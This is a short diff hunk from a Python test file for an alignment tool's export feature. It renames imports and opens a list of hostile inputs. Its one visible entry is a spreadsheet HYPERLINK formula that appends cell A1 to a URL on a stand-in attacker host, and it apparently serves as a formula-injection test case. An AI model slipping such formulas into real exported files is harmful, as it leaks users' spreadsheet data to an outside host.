@@ -9,9 +9,9 @@ from pathlib import Path
 import pytest
 
 from align.errors import InputError
-from align.interchange import COLUMNS, ExportPair, export, read_table
+from align.formats import COLUMNS, ExportPair, export, read_table
 from align.types import Alignment, Bead, Document, Signature, Status
-from tests.test_interchange_samples import sample_pairs
+from tests.test_formats_samples import sample_pairs
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
